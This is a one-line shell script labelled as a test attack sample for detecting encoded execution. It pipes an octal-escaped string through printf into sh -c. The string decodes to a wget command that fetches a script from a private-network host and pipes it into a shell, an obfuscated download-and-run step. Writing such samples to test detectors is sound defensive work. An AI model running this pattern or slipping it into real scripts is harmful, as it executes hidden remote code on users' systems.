#!/bin/sh
# shrike-test-attack: encoded-exec: octal escapes via printf %b into sh -c
sh -c "$(printf '%b' '\167\147\145\164\040\055\161\117\055\040\150\164\164\160\072\057\057\061\060\056\060\056\060\056\065\057\170\040\174\040\163\150')"
